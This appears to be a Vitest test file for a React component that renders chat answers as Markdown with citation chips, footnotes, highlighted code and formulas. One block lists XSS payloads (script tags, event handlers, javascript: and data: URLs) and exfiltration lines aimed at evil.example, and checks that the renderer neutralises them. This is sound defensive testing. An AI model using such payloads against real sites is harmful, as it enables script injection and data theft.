import { renderToStaticMarkup } from "react-dom/server";
import { MemoryRouter } from "react-router";
import { beforeAll, describe, expect, it } from "vitest";
import type { Citation } from "../../../workers/chat/contract.ts";
import AnswerMarkdown, { AnswerPiece } from "./answer-markdown.tsx";
import { fetchHighlighter } from "./use-highlighter.ts";

const citation: Citation = {
  index: 1,
  document_id: "doc_1",
  source: "notes.pdf",
  page: 3,
  section: null,
  quote: "Because.",
  relevance: 1,
  start: 0,
  end: 8,
};

function html(text: string, citations: Citation[] = [citation]): string {
  return renderToStaticMarkup(
    <MemoryRouter>
      <AnswerMarkdown text={text} citations={citations} streaming={false} />
    </MemoryRouter>,
  );
}

describe("citation markers", () => {
  it("become chips where the citation exists, one beside the other", () => {
    const out = html("First [1]. Both [1][2].", [citation, { ...citation, index: 2 }]);
    expect(out.match(/aria-label="Source \d: notes\.pdf"/g)).toHaveLength(3);
  });

  it("stay text where it does not", () => {
    expect(html("Nothing [7] here.")).toContain("[7]");
  });

  it("are chips, too, where the answer gives their numbers addresses", () => {
    const out = html("First [1]. See [the page][2].\n\n[1]: https://example.com\n[2]: https://example.com/two");
    expect(out.match(/aria-label="Source 1/g)).toHaveLength(1);
    expect(out).toContain('href="https://example.com/two"');
  });

  it("stay text in code", () => {
    const out = html("`a[1]`\n\n```js\nconst x = a[1];\n```");
    expect(out).not.toContain('aria-label="Source');
  });
});

describe("what an answer must not do", () => {
  const payloads = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)></svg>",
    '<iframe src="https://evil.example"></iframe>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png?leak=1)",
    "![x][ref]\n\n[ref]: https://evil.example/pixel.png",
    "<style>@import url(https://evil.example)</style>",
    '<a href="#" style="background:url(https://evil.example)">x</a>',
    "<details open ontoggle=alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '```js"onmouseover=alert(1)\nx\n```',
    '<form action="https://evil.example"><button>x</button></form>',
    "<base href=https://evil.example>",
    '[a](https://evil.example "onmouseover=alert(1)")',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  ];

  it.each(payloads)("%s", (payload) => {
    const out = html(payload);
    // Only what React rendered as elements counts, but for our own icons: escaped text is inert.
    const tags = (out.match(/<[a-z][^>]*>/gi) ?? []).filter((tag) => !tag.startsWith('<svg data-component="Octicon"'));
    for (const tag of tags) {
      expect(tag).not.toMatch(/^<(script|img|iframe|style|form|base|object|embed|link|meta|details)\b/i);
      expect(tag).not.toMatch(/\son\w+=/i);
      expect(tag).not.toMatch(/\s(?:src|srcset|style|background|poster)=/i);
      expect(tag).not.toMatch(/href="\s*(?:javascript|data|vbscript):/i);
    }
  });

  it("shows HTML as the text that it is", () => {
    expect(html("Use <b>bold</b>.\n\n<div>block</div>")).toContain("&lt;div&gt;block&lt;/div&gt;");
  });

  it("shows an image as a link to it", () => {
    const out = html("![a chart](https://example.com/chart.png)");
    expect(out).toContain('href="https://example.com/chart.png"');
    expect(out).toContain("Image: a chart");
  });

  it("leaves only the words of a link that leads nowhere good", () => {
    expect(html("[go](javascript:alert(1)) on")).not.toContain("<a");
  });

  it("opens links elsewhere, without handing on who came", () => {
    expect(html("[x](https://example.com)")).toContain('target="_blank" rel="noopener noreferrer nofollow ugc"');
  });
});

describe("footnotes", () => {
  it("lead to their note and back, within their own answer", () => {
    const out = html("Words[^a].\n\n[^a]: A note.");
    const links = [...out.matchAll(/href="#([^"]+)"/g)].map(([, id = ""]) => id);
    expect(links).toHaveLength(2);
    for (const id of links) expect(out).toContain(`id="${id}"`);
  });
});

describe("code", () => {
  beforeAll(fetchHighlighter);

  const code = (text: string) =>
    renderToStaticMarkup(
      <AnswerPiece piece={{ kind: "markdown", text, definitions: "" }} citations={[]} highlighted />,
    );

  it("is highlighted without losing its text, once the browser has the page", () => {
    const written = "```js\nconst answer = 42;\n```";
    expect(html(written)).not.toContain("hljs");
    const out = code(written);
    expect(out).toContain("hljs-keyword");
    expect(out.replace(/<[^>]+>/g, "")).toContain("const answer = 42;");
  });

  it.each([
    ["long", "const a = 1;\n".repeat(400)],
    ["of a long line", `const a = "${"x".repeat(500)}";`],
  ])("that is %s stays as it is", (_, text) => {
    const out = code(`\`\`\`js\n${text}\n\`\`\``);
    expect(out).toContain('class="language-js"');
    expect(out).not.toContain("hljs");
  });
});

describe("formulas", () => {
  it("are set apart from Markdown and citations, and stand as they were written until they are set", () => {
    const out = html("So $a_1*b_2*c [1]$ [1], and\n\n$$\nx\n=\ny\n$$");
    expect(out).toContain('<span class="formula" dir="ltr">$a_1*b_2*c [1]$</span>');
    expect(out).toContain('<span class="formula" dir="ltr" data-display="true">$$\nx\n=\ny\n$$</span>');
    expect(out.match(/aria-label="Source 1/g)).toHaveLength(1);
    expect(out).not.toMatch(/<(?:em|h1|h2)/);
  });

  it("are what was written in code, addresses and what is too much to parse", () => {
    const out = html("    $x$\n\n[a](https://example.com/$b$c) and https://example.com/\\(d\\)");
    expect(out).toContain("$x$\n</code>");
    expect(out).toContain('href="https://example.com/$b$c"');
    expect(out).not.toMatch(/[\ue000-\ue07f\ufdd0\ufdd1\ufeff]|%EE%8|%EF%B7/);
    expect(html(`${"- ".repeat(2_000)}$x$`)).toContain("$x$");
    expect(html("$5 and $10, 10~20 and 30~40, **中文（说明）**文字")).toContain(
      "$5 and $10, 10~20 and 30~40, <strong>中文（说明）</strong>文字",
    );
  });
});

describe("an answer that would take the parser too long", () => {
  it("is shown as the characters that it is, and what stands around it as Markdown", () => {
    const out = html(`# Head\n\n${"- ".repeat(2_000)}deep\n\nSome **words** [1].`);
    expect(out).toContain("<h1>Head</h1>");
    expect(out).toContain("- - - - ");
    expect(out).toContain("<strong>words</strong>");
    expect(out).toContain('aria-label="Source 1: notes.pdf"');
  });

  it("keeps links to what is defined elsewhere in it", () => {
    const out = html(`See [the docs][d].\n\n${"Words. ".repeat(400)}\n\n[d]: https://example.com/docs`);
    expect(out).toContain('href="https://example.com/docs"');
  });
});
